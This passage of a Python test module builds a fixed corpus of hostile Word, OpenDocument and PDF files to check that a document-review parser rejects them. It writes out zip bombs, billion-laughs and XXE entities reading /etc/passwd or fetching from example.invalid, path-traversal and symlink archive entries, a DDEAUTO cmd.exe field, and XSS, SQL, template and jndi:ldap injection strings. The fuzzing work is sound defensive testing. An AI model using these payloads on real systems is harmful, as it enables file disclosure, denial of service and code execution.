"""Makes hostile drafts: crafted and mutated files of every kind the review reads. The same ones every time.

Nothing here is a real document, and every address in it is one that nobody can have (``example.invalid``).
"""

from __future__ import annotations

import os
import random
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from pathlib import Path

from assistant.errors import ErrorCode
from tests.documents.wordfiles import MAIN_TYPE, NAMESPACES, document, package_parts, zipped

DRAFTS = Path(__file__).resolve().parents[1] / "review" / "drafts" / "open"
FIXTURES = Path(__file__).resolve().parents[1] / "documents" / "read" / "fixtures"
SEEDS = ("02-t-overskrifter.docx", "12-lars-brev.odt", "11-tuva-veiledersporsmal.pdf", "07-odin-fritekst.txt")
"""Drafts that are reviewed without a fault, one of each kind, from which the mutated ones are made."""

REMOTE = "http://example.invalid/x"
MEGABYTE = 1024 * 1024

OK = None
"""The outcome of a draft that is reviewed."""
BROKEN, UNSAFE, EMPTY = ErrorCode.DRAFT_BROKEN, ErrorCode.DRAFT_UNSAFE, ErrorCode.DRAFT_EMPTY
LOCKED, MACROS, OLD = ErrorCode.DRAFT_ENCRYPTED, ErrorCode.DRAFT_MACROS, ErrorCode.DRAFT_OLD_WORD
SCANNED = ErrorCode.DRAFT_SCANNED
ANY = frozenset({OK, BROKEN, UNSAFE, EMPTY, LOCKED, MACROS, OLD, SCANNED})
"""What may become of a file that was changed at random."""

Outcomes = frozenset[ErrorCode | None]

MARKUP = (
    "[/red]",
    "[bold]fet[/bold] [link=http://example.invalid]her[/link]",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "{{ 7219*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    '=HYPERLINK("http://example.invalid";"klikk")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'; DROP TABLE reviews; --",
    "${jndi:ldap://example.invalid/x}",
    "%s%n%x",
    "../../x",
    "javascript:alert(1)",
)
"""What some reader of a text, a page, a table or a database takes for more than text."""
EVALUATED = str(7219 * 7)
STEERING = "\x1b[2J\x1b]0;x\x07\x9b31m\x85\u2028\u2029\u202e\u2066"
"""What steers a terminal, or turns what follows."""
SIGN = "Vi ser fremgang når Ekorn er mer trygg."


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and what may become of it: reviewed (``OK``), or one of some errors."""

    name: str
    data: bytes
    outcomes: Outcomes


def corpus() -> list[Hostile]:
    """Return all of them, each with a name of its own."""
    made = [*crafted(), *mutated()]
    return [Hostile(f"{place:03d}-{one.name}", one.data, one.outcomes) for place, one in enumerate(made)]


@cache
def crafted() -> tuple[Hostile, ...]:
    """Return those that are made by hand, each against one weakness."""
    return (*zips(), *xml(), *word(), *opendocument(), *pdfs(), *texts(), *disguised())


def mutated(*, cuts: int = 10, flips: int = 12) -> Iterator[Hostile]:
    """Yield whole drafts cut short at every tenth, with bytes turned at random, or pieces moved about."""
    chance = random.Random(20260909)
    for seed in SEEDS:
        data = (DRAFTS / seed).read_bytes()
        stem, _, ending = seed.rpartition(".")
        for tenth in range(cuts):
            part = data[: len(data) * tenth // cuts]
            yield Hostile(f"{stem}-kuttet-{tenth}.{ending}", part, ANY)
        for number in range(flips):
            changed = bytearray(data)
            for _ in range(2 ** (number % 8)):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield Hostile(f"{stem}-snudd-{number}.{ending}", bytes(changed), ANY)
        for number in range(flips // 3):
            a, b = sorted(chance.sample(range(len(data)), 2))
            moved = (data[b:] + data[a:b] + data[:a], data[:a] + data[b:], data[:b] + data[a:])[number % 3]
            yield Hostile(f"{stem}-flyttet-{number}.{ending}", moved, ANY)


# -- packages ---------------------------------------------------------------------------------------------

TEXT = f"<w:p><w:r><w:t>Tegn på fremgang: {SIGN}</w:t></w:r></w:p>"


def docx(parts: Mapping[str, str | bytes] | None = None, body: str = TEXT) -> bytes:
    """Return a Word file with these parts beside, or in place of, its own."""
    return zipped({**package_parts(body), **(parts or {})})


def members(entries: Iterable[tuple[zipfile.ZipInfo | str, str | bytes]]) -> bytes:
    """Return a zip of these members, in order, one twice if it is there twice."""
    stream = BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        warnings.simplefilter("ignore")
        for name, content in entries:
            package.writestr(name, content)
    return stream.getvalue()


def _renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


def _in_directory(data: bytes, name: str, offset: int, form: str, value: int) -> bytes:
    """Change a number in the directory's entry of a member."""
    changed = bytearray(data)
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))
    struct.pack_into(form, changed, entry + offset, value)
    return bytes(changed)


def _link(name: str, target: str) -> tuple[zipfile.ZipInfo, str]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target


def zips() -> Iterator[Hostile]:
    """Yield packages that swell, lead out, lie or hide."""
    own = list(package_parts(TEXT).items())
    zeros = bytes(30 * MEGABYTE)
    inner = zipped({"innerst.bin": zeros})
    for _ in range(3):
        inner = zipped({f"{place}.zip": inner for place in range(10)})
    swollen = docx({"word/media/a.bin": zeros})
    overlapping = docx({"word/media/a.bin": b"a" * 900, "word/media/b.bin": b"b" * 900})
    whole = docx()
    many = frozenset({BROKEN, UNSAFE})
    yield Hostile("bombe-1000-til-1.docx", swollen, frozenset({UNSAFE}))
    yield Hostile("bombe-odt.odt", zipped({"content.xml": zeros}), frozenset({UNSAFE}))
    yield Hostile("bombe-i-bombe.docx", docx({"word/embeddings/a.zip": inner}), frozenset({OK}))
    yield Hostile("bombe-sier-liten.docx", _in_directory(swollen, "word/media/a.bin", 24, "<I", 10), many)
    yield Hostile(
        "bombe-overlappende.docx",
        _in_directory(overlapping, "word/media/b.bin", 42, "<I", overlapping.index(b"word/media/a.bin") - 30),
        frozenset({UNSAFE}),
    )
    yield Hostile("bombe-av-seg-selv.docx", docx({"word/embeddings/r.docx": whole}), frozenset({OK}))
    yield Hostile(
        "bombe-200-mb-i-alt.docx",
        docx({f"word/media/{place}.bin": bytes(900_000) for place in range(240)}),
        frozenset({UNSAFE}),
    )
    yield Hostile("mange-medlemmer.docx", zipped({f"{n}.xml": "" for n in range(6000)}), frozenset({UNSAFE}))
    yield Hostile(
        "xml-30-mb.docx", docx({"word/styles.xml": "<a>" + "x" * 30 * MEGABYTE}), frozenset({UNSAFE})
    )
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        info = zipfile.ZipInfo("word/media/a.bin")
        info.compress_type = method
        yield Hostile(f"pakket-{method}.docx", members([*own, (info, b"x" * 999)]), frozenset({UNSAFE}))
    for name in (
        "/etc/ut.xml",
        "../ut.xml",
        "word/../../../ut.xml",
        "C:/ut.xml",
        "c:ut.xml",
        "word\\..\\ut.xml",
    ):
        yield Hostile("navn-ut.docx", docx({name: "<a/>"}), frozenset({UNSAFE}))
    nul = _renamed(docx({"word/medXa/../a": "x"}), b"word/medXa/../a", b"word/med\0a/../a")
    yield Hostile("navn-nul.docx", nul, many)
    yield Hostile("lenke.docx", members([*own, _link("word/media/a.png", "/etc/passwd")]), frozenset({OK}))
    linked = [entry for entry in own if entry[0] != "word/document.xml"]
    yield Hostile(
        "lenke-dokument.docx",
        members([*linked, _link("word/document.xml", "/etc/passwd")]),
        frozenset({BROKEN}),
    )
    yield Hostile("dobbelt.docx", members([*own, ("word/document.xml", document(TEXT))]), frozenset({BROKEN}))
    cased = members([*own, ("WORD/DOCUMENT.XML", document(TEXT))])
    yield Hostile("dobbelt-store-bokstaver.docx", cased, frozenset({OK, BROKEN}))
    yield Hostile("låst-zip.docx", _in_directory(whole, "word/document.xml", 8, "<H", 1), frozenset({LOCKED}))
    yield Hostile("annet-navn-inni.docx", _renamed_local(whole), frozenset({BROKEN}))
    yield Hostile("foran.docx", b"MZ" + bytes(500) + whole, frozenset({BROKEN}))
    yield Hostile("bak.docx", whole + b"PK\x05\x06" + bytes(30), ANY)
    yield Hostile("negativ.docx", _in_directory(whole, "word/document.xml", 42, "<I", 0xFFFFFFFF), many)
    yield Hostile("tom-zip.docx", zipped({}), frozenset({BROKEN}))
    yield Hostile("bare-mapper.docx", zipped({"word/": "", "word/document.xml/": ""}), frozenset({BROKEN}))
    yield Hostile("zip-kalt-odt.odt", zipped({"a.txt": "hei"}), frozenset({BROKEN}))
    yield Hostile("docx-kalt-odt.odt", whole, frozenset({BROKEN}))


def _renamed_local(data: bytes) -> bytes:
    """Let a member call itself something else than the directory does."""
    place = data.index(b"word/document.xml")
    return data[:place] + b"word/dokument.xml" + data[place + 17 :]


# -- XML --------------------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = {
    "latter": f'<!DOCTYPE a [<!ENTITY l0 "ha">{_LAUGHS}]>',
    "kvadratisk": f'<!DOCTYPE a [<!ENTITY l9 "{"x" * 50_000}">]>',
    "fil": '<!DOCTYPE a [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "nett": f'<!DOCTYPE a [<!ENTITY l9 SYSTEM "{REMOTE}">]>',
    "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{REMOTE}"> %p; <!ENTITY l9 "">]>',
    "utenfor": f'<!DOCTYPE a SYSTEM "{REMOTE}" [<!ENTITY l9 "">]>',
}
_ODF = " ".join(
    f'xmlns:{prefix}="{uri}"'
    for prefix, uri in {
        **{
            each: f"urn:oasis:names:tc:opendocument:xmlns:{each}:1.0"
            for each in ("office", "style", "text", "table", "form", "script")
        },
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
    }.items()
)
_ODT_TEXT = f"<text:p>Tegn på fremgang: {SIGN}</text:p>"


def odt(body: str = _ODT_TEXT, styles: str = "", others: Mapping[str, str | bytes] | None = None) -> bytes:
    """Return an OpenDocument text with this body and these automatic styles."""
    content = (
        f"<office:document-content {_ODF}><office:automatic-styles>{styles}</office:automatic-styles>"
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    media = "application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": media, "content.xml": content, **(others or {})})


def xml() -> Iterator[Hostile]:
    """Yield packages whose XML wants to grow, or to fetch something."""
    unsafe = frozenset({UNSAFE})
    parts = package_parts(TEXT)
    for name, doctype in DOCTYPES.items():
        for part in ("word/document.xml", "word/styles.xml", "_rels/.rels", "word/_rels/document.xml.rels"):
            own = str(parts.get(part, f"<w:styles {NAMESPACES}/>"))
            grown = own.replace("<w:t>", "<w:t>" + "&l9;" * 100, 1)
            yield Hostile(f"{name}-{Path(part).name}.docx", docx({part: doctype + grown}), unsafe)
        for part in ("content.xml", "styles.xml", "META-INF/manifest.xml"):
            data = zipped({"content.xml": f"<a {_ODF}/>", part: f"{doctype}<a>&l9;</a>"})
            yield Hostile(f"{name}-{Path(part).name}.odt", data, unsafe)
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
    for number, href in enumerate(("file:///etc/passwd", REMOTE)):
        body = TEXT + f"<w:p><w:r><w:t>{include.format(href)}</w:t></w:r></w:p>"
        yield Hostile(f"xinclude-{number}.docx", docx(body=body), frozenset({OK}))
        yield Hostile(f"xinclude-{number}.odt", odt(_ODT_TEXT + include.format(href)), frozenset({OK}))
    sheet = f'<?xml-stylesheet type="text/xsl" href="{REMOTE}"?>{document(TEXT)}'
    yield Hostile("stilark.docx", docx({"word/document.xml": sheet}), frozenset({OK}))
    schema = document(TEXT).replace(
        "<w:document",
        '<w:document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{REMOTE} {REMOTE}"',
        1,
    )
    yield Hostile("skjema.docx", docx({"word/document.xml": schema}), frozenset({OK}))
    for encoding in ("utf-7", "utf-32", "ebcdic-cp-us", "x-finnes-ikke"):
        declared = f'<?xml version="1.0" encoding="{encoding}"?>' + document(TEXT)
        yield Hostile(f"koding-{encoding}.docx", docx({"word/document.xml": declared}), ANY)
    deep = "<w:sdt><w:sdtContent>" * 3000 + TEXT + "</w:sdtContent></w:sdt>" * 3000
    yield Hostile("dyp.docx", docx(body=deep), frozenset({UNSAFE}))
    attribute = f'<w:p w:rsidR="{"A" * 11 * MEGABYTE}"/>'
    yield Hostile("stort-attributt.docx", docx(body=TEXT + attribute), frozenset({UNSAFE, BROKEN, OK}))
    spaces = " ".join(f'xmlns:n{n}="urn:{n}" n{n}:a="1"' for n in range(20_000))
    yield Hostile("navnerom.docx", docx(body=TEXT + f"<w:p {spaces}/>"), ANY)


# -- Word -------------------------------------------------------------------------------------------------

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def outside(*kinds: str) -> str:
    """Return relationships of these kinds that point out of the file, each by address and by path."""
    lines = "".join(
        f'<Relationship Id="rId{number}" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            (kind, target)
            for kind in kinds
            for target in (REMOTE, "file:///etc/passwd", r"\\example.invalid\x")
        )
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'


def word() -> Iterator[Hostile]:
    """Yield Word files that fetch, run, collide, or are built as no word processor builds them."""
    ok, unsafe = frozenset({OK}), frozenset({UNSAFE})
    rels = "word/_rels/document.xml.rels"
    for kind in (
        "attachedTemplate",
        "image",
        "oleObject",
        "styles",
        "comments",
        "header",
        "subDocument",
        "aFChunk",
    ):
        yield Hostile(f"utenfor-{kind}.docx", docx({rels: outside(kind)}), ok)
    yield Hostile("utenfor-dokument.docx", docx({"_rels/.rels": outside("officeDocument")}), ok)
    up = outside("styles").replace(' TargetMode="External"', "").replace(REMOTE, "../../../../etc/passwd")
    yield Hostile("opp.docx", docx({rels: up}), ok)
    yield Hostile("makro.docm", docx(), frozenset({MACROS}))
    yield Hostile("makro.dotm", docx(), frozenset({MACROS}))
    yield Hostile("skjult-makro.docx", docx({"word/vbaProject.bin": b"x"}), frozenset({MACROS}))
    yield Hostile("skjult-makro-2.docx", docx({"a/b/VBAPROJECT2.BIN": b"x"}), frozenset({MACROS}))
    types = str(package_parts(TEXT)["[Content_Types].xml"]).replace(
        MAIN_TYPE, "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    yield Hostile("makroslag.docx", docx({"[Content_Types].xml": types}), frozenset({MACROS}))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    yield Hostile("kryptert.docx", ole + "EncryptedPackage".encode("utf-16-le"), frozenset({LOCKED}))
    yield Hostile("gammel.docx", ole + "WordDocument".encode("utf-16-le"), frozenset({OLD}))
    yield Hostile("gammel.doc", ole, frozenset({OLD}))
    yield Hostile("ole.docx", ole * 100, frozenset({BROKEN}))
    tables = "<w:tbl><w:tr><w:tc>{}<w:p/></w:tc></w:tr></w:tbl>"
    for depth, outcomes in ((15, ok), (30, unsafe), (20_000, unsafe)):
        start, _, end = tables.partition("{}")
        yield Hostile(f"tabeller-{depth}.docx", docx(body=start * depth + TEXT + end * depth), outcomes)
    for properties in (
        '<w:gridSpan w:val="1000000000"/>',
        '<w:gridSpan w:val="-7"/>',
        '<w:gridSpan w:val="1e308"/>',
        '<w:vMerge w:val="continue"/>',
        '<w:vMerge/><w:gridSpan w:val="nan"/>',
        '<w:vMerge w:val="restart"/><w:gridSpan w:val="99999999999999999999999999"/>',
    ):
        cell = f"<w:tc><w:tcPr>{properties}</w:tcPr>{TEXT}</w:tc>"
        row = f'<w:tr><w:trPr><w:gridBefore w:val="2000000000"/></w:trPr>{cell * 3}</w:tr>'
        yield Hostile("celler.docx", docx(body=f"<w:tbl>{row * 3}</w:tbl>"), ok)
    wide = f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 3000}<w:tc>{TEXT}</w:tc></w:tr></w:tbl>"
    yield Hostile("bred.docx", docx(body=wide), ok)
    yield Hostile("50000-avsnitt.docx", docx(body=TEXT + "<w:p/>" * 50_000), ok)
    words = "<w:p><w:r><w:t>Ja</w:t></w:r></w:p>" * 50_000
    yield Hostile("50000-ord.docx", docx(body=TEXT + words), frozenset({OK, UNSAFE}))
    run = "<w:r><w:t>a</w:t></w:r>"
    yield Hostile("20000-løp.docx", docx(body=f"{TEXT}<w:p>{run * 20_000}</w:p>"), ok)
    yield Hostile(
        "en-million-tegn.docx",
        docx(body=f"<w:p><w:r><w:t>{'Ekorn leker. ' * 90_000}</w:t></w:r></w:p>"),
        unsafe,
    )
    ring = (
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="C"><w:basedOn w:val="C"/></w:style>'
        '<w:style w:type="numbering" w:styleId="N">'
        '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    )
    styled = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="{each}"/><w:numPr><w:ilvl w:val="{level}"/>'
        '<w:numId w:val="1"/></w:numPr>'
        f"</w:pPr><w:r><w:t>{SIGN}</w:t></w:r></w:p>"
        for each, level in (("A", 0), ("C", 8), ("N", 1_000_000_000), ("X", -4))
    )
    numbers = (
        '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="N"/>'
        '<w:lvl w:ilvl="0"><w:start w:val="999999999"/>'
        '<w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1%2%3%9%1%1%1"/></w:lvl>'
        '<w:lvl w:ilvl="8"><w:start w:val="-5"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%9"/></w:lvl>'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    yield Hostile("ringer.docx", zipped(package_parts(styled, styles=ring, numbering=numbers)), ok)
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>'
        for n in range(20_000)
    )
    styled = f'<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>{SIGN}</w:t></w:r></w:p>'
    yield Hostile("lang-arv.docx", zipped(package_parts(styled, styles=chain)), ok)
    marks = "".join(
        f'<w:commentRangeStart w:id="{n}"/><w:commentRangeEnd w:id="{n}"/>'
        f'<w:r><w:commentReference w:id="{n}"/></w:r>'
        for n in (0, 0, 1, "x", -1, 99999999999999)
    )
    comments = "".join(f'<w:comment w:id="{n}"><w:p/></w:comment>' for n in (0, 0, 1, "x", 2))
    body = f"<w:p>{marks}<w:r><w:t>{SIGN}</w:t></w:r>{marks}</w:p>"
    yield Hostile("merknader-kolliderer.docx", zipped(package_parts(body, comments=comments)), ok)
    open_fields = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 1000
    yield Hostile("felt-uten-slutt.docx", docx(body=f"{TEXT}<w:p>{open_fields}</w:p>"), ok)
    include = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>INCLUDETEXT "{REMOTE}"</w:instrText></w:r>'
    )
    dde = '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe x"><w:r><w:t>hei</w:t></w:r></w:fldSimple>'
    yield Hostile("felt-henter.docx", docx(body=f"{TEXT}<w:p>{dde}{include}</w:p>"), ok)
    box = "<w:p><w:r><w:pict><w:txbxContent>{}</w:txbxContent></w:pict></w:r></w:p>"
    start, _, end = box.partition("{}")
    yield Hostile("bokser-15.docx", docx(body=start * 15 + TEXT + end * 15), ok)
    yield Hostile("bokser-40.docx", docx(body=start * 40 + TEXT + end * 40), unsafe)
    yield Hostile("uten-avsnitt.docx", docx(body=""), frozenset({EMPTY}))
    yield Hostile(
        "uten-brødtekst.docx", docx({"word/document.xml": f"<w:document {NAMESPACES}/>"}), frozenset({BROKEN})
    )
    yield Hostile(
        "annet-xml.docx", docx({"word/document.xml": "<html><body>hei</body></html>"}), frozenset({BROKEN})
    )
    yield Hostile("markup.docx", marked_up(), ok)


def escaped(text: str) -> str:
    """Return ``text`` as XML may hold it."""
    for old, new in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;")):
        text = text.replace(old, new)
    return text


def marked_up() -> bytes:
    """Return a Word file with every hostile text as label, heading, item and title."""
    lines = []
    for text in (*MARKUP, "\x85\u2028\u202e\u2066\u009b31m snudd"):
        said = escaped(text)
        lines.append(f"<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>{said}</w:t></w:r></w:p>")
        lines.append(f"<w:p><w:r><w:t>Tegn på fremgang: {said} {SIGN} {said}</w:t></w:r></w:p>")
        cells = "".join(f"<w:tc><w:p><w:r><w:t>{said}</w:t></w:r></w:p></w:tc>" for _ in range(2))
        lines.append(f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>")
    return docx(body="".join(lines))


# -- OpenDocument -----------------------------------------------------------------------------------------


def opendocument() -> Iterator[Hostile]:
    """Yield OpenDocument texts that repeat without end, go round, or fetch."""
    ok, unsafe = frozenset({OK}), frozenset({UNSAFE})
    huge = "999999999"
    counts = f'table:number-columns-repeated="{huge}" table:number-rows-spanned="{huge}"'
    cell = f"<table:table-cell {counts}>{_ODT_TEXT}</table:table-cell>"
    rows = f'<table:table-row table:number-rows-repeated="{huge}">{cell}</table:table-row>' * 20
    yield Hostile("gjentatt.odt", odt(f"<table:table>{rows}</table:table>"), ok)
    short = '<table:table-cell table:number-columns-repeated="99999"/>' * 2000
    yield Hostile(
        "bred.odt",
        odt(f"{_ODT_TEXT}<table:table><table:table-row>{short}</table:table-row></table:table>"),
        ok,
    )
    spaces = '<text:s text:c="99999"/>' * 5000
    yield Hostile("mellomrom.odt", odt(f"<text:p>{SIGN}{spaces}</text:p>"), ANY)
    for tag, depth, outcomes in (("list", 100, unsafe), ("section", 200, unsafe), ("section", 30, ok)):
        item = ("<text:list><text:list-item>", "</text:list-item></text:list>")
        start, end = item if tag == "list" else ("<text:section>", "</text:section>")
        yield Hostile(f"dyp-{tag}-{depth}.odt", odt(start * depth + _ODT_TEXT + end * depth), outcomes)
    spans = "<text:span>" * 200 + SIGN + "</text:span>" * 200
    yield Hostile("dype-spenn.odt", odt(f"<text:p>{spans}</text:p>"), unsafe)
    ring = (
        '<style:style style:name="A" style:family="paragraph" style:parent-style-name="B">'
        '<style:text-properties fo:font-size="9999%" fo:font-weight="9999999999"/></style:style>'
        '<style:style style:name="B" style:family="paragraph" style:parent-style-name="A">'
        '<style:text-properties fo:font-size="9999%"/></style:style>'
        '<text:list-style style:name="L"><text:list-level-style-number text:level="1" style:num-format="i" '
        f'text:start-value="{huge}" text:display-levels="{huge}"/></text:list-style>'
    )
    listed = (
        '<text:list xml:id="x" text:style-name="L" text:continue-list="x">'
        '<text:list-item text:start-value="999999">'
        f'<text:p text:style-name="A">{SIGN}</text:p></text:list-item></text:list>'
    )
    yield Hostile("ringer.odt", odt(listed, ring), ok)
    fetched = (
        f'<text:p>{SIGN}<draw:frame><draw:image xlink:href="{REMOTE}"/></draw:frame>'
        f'<draw:frame><draw:object xlink:href="../../../../etc/passwd"/></draw:frame>'
        f'<text:script script:language="javascript">x()</text:script></text:p>'
        f'<text:section><text:section-source xlink:href="{REMOTE}"/>{_ODT_TEXT}</text:section>'
    )
    yield Hostile("henter.odt", odt(fetched), ok)
    locked = "<m><file-entry><encryption-data/></file-entry></m>"
    yield Hostile("låst.odt", odt(others={"META-INF/manifest.xml": locked}), frozenset({LOCKED}))
    yield Hostile(
        "regneark.odt",
        zipped(
            {
                "content.xml": f"<office:document-content {_ODF}><office:body>"
                "<office:spreadsheet/></office:body></office:document-content>"
            }
        ),
        frozenset({BROKEN}),
    )
    note = "<text:note><text:note-body><text:p>note{}</text:p></text:note-body></text:note>"
    start, _, end = note.partition("{}")
    yield Hostile("noter-i-noter.odt", odt(f"<text:p>{SIGN}{start * 50}{end * 50}</text:p>"), ANY)
    frames = "<draw:frame><draw:text-box><text:p>i boks ", "</text:p></draw:text-box></draw:frame>"
    yield Hostile("bokser.odt", odt(f"<text:p>{frames[0] * 60}{frames[1] * 60}</text:p>"), ANY)
    yield Hostile(
        "markup.odt", odt("".join(f"<text:p>{escaped(text)} {SIGN}</text:p>" for text in MARKUP)), ok
    )
    yield Hostile("en-million-tegn.odt", odt(f"<text:p>{'Ekorn leker. ' * 90_000}</text:p>"), unsafe)


# -- PDF --------------------------------------------------------------------------------------------------

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(content), content)


def written(text: str = f"Tegn: {SIGN}") -> bytes:
    """Return what writes ``text`` on a page."""
    said = (
        text.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    )
    return b"BT /F1 12 Tf 50 700 Td (%s) Tj ET" % said


def pdf(objects: Mapping[int, bytes] | None = None, trailer: bytes = b"", content: bytes = b"") -> bytes:
    """Return a PDF of one page; ``objects`` stand in place of its own (1 to 5) or beside them."""
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page(),
        4: stream(content or written()),
        5: _FONT,
        **(objects or {}),
    }
    out = b"%PDF-1.7\n"
    places = {}
    for number, body in parts.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in sorted(places.items()))
    root = b"" if b"/Root" in trailer else b"/Root 1 0 R"
    start = len(out)
    return out + b"xref\n0 1\n0000000000 65535 f \n%strailer\n<</Size %d%s%s>>\nstartxref\n%d\n%%%%EOF" % (
        table,
        max(parts) + 1,
        root,
        trailer,
        start,
    )


_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s/Font<</F1 5 0 R>>>>%s>>"
_BOX = b"0 0 595 842"


def page(resources: bytes = b"", more: bytes = b"", box: bytes = _BOX) -> bytes:
    """Return a page object."""
    return _PAGE % (box, resources, more)


def pdfs() -> Iterator[Hostile]:
    """Yield PDFs that go round, swell, count to a milliard, or want to run something."""
    ok, broken = frozenset({OK}), frozenset({BROKEN})
    maybe = frozenset({OK, BROKEN, EMPTY, SCANNED, UNSAFE})
    whole = pdf()
    yield Hostile("hel.pdf", whole, ok)
    yield Hostile("uten-xref.pdf", whole[: whole.rindex(b"xref\n0")], ANY)
    yield Hostile("feil-xref.pdf", whole.replace(b"00000 n", b"00000 f"), ANY)
    yield Hostile("xref-ut.pdf", whole[: whole.rindex(b"startxref")] + b"startxref\n99999999999\n%%EOF", ANY)
    yield Hostile("xref-milliard.pdf", whole.replace(b"xref\n0 1\n", b"xref\n0 4000000000\n"), ANY)
    yield from _pdf_rings(maybe)
    yield from _pdf_bombs(maybe)
    yield from _pdf_actions(ok)
    many = b" ".join(b"%d 0 R" % n for n in range(10, 3010))
    pages = {n: page() for n in range(10, 3010)}
    yield Hostile(
        "3000-sider.pdf",
        pdf({2: b"<</Type/Pages/Kids[%s]/Count 3000>>" % many, **pages}),
        frozenset({UNSAFE}),
    )
    for number, box in enumerate(
        (b"0 0 0 0", b"0 0 1e30 1e30", b"-9 -9 -99 -99", b"0 0", b"/a /b /c /d", b"null")
    ):
        yield Hostile(f"ramme-{number}.pdf", pdf({3: page(box=box)}), maybe)
    for number, content in enumerate(
        (
            b"BT /F1 1e9 Tf 50 700 Td (stor) Tj ET",
            b"BT /F1 0 Tf 50 700 Td (null) Tj ET",
            b"BT /F1 -12 Tf 50 700 Td (opp ned) Tj ET",
            b"BT /F1 12 Tf 1e300 0 0 1e300 1e300 1e300 Tm (langt) Tj ET",
            b"BT /F9 12 Tf 50 700 Td (ukjent skrift) Tj ET",
            b"BT /F1 12 Tf 3 Tr 50 700 Td (usynlig) Tj ET",
            b"BT /F1 12 Tf 50 700 Td " + b"(a) Tj 0 0 Td " * 5000 + b"ET",
            b"q " * 50_000 + written(),
            b"Q " * 50_000 + written(),
            b"[" * 50_000 + written(),
            b"<<" * 50_000 + written(),
            b"(" * 50_000 + written(),
            b"BI /W 9999999 /H 9999999 ID x",
            written() + b" 1 2 3 4 5 re f" * 5000,
            written() + b" 0 0 m 9 9 l S" * 20_000,
            b"".join(b"%d %d 5 5 re S " % (x * 6, y * 6) for x in range(60) for y in range(60)) + written(),
            b"\x00\xff" * 5000,
        )
    ):
        yield Hostile(f"innhold-{number}.pdf", pdf(content=content), maybe)
    grey = b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8"
    scanned = {
        3: page(b"/XObject<</I 6 0 R>>"),
        6: stream(b"x" * 81, grey),
    }
    yield Hostile("skannet.pdf", pdf(scanned, content=b"q 595 0 0 842 0 0 cm /I Do Q"), frozenset({SCANNED}))
    yield Hostile("låst.pdf", (FIXTURES / "locked.pdf").read_bytes(), frozenset({LOCKED}))
    for number, lock in enumerate(
        (
            b"<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -4>>",
            b"<</Filter/Standard/V 99/R 99/O(x)/U(x)/P -4>>",
            b"<</Filter/Ukjent>>",
            b"null",
            b"[]",
        )
    ):
        yield Hostile(
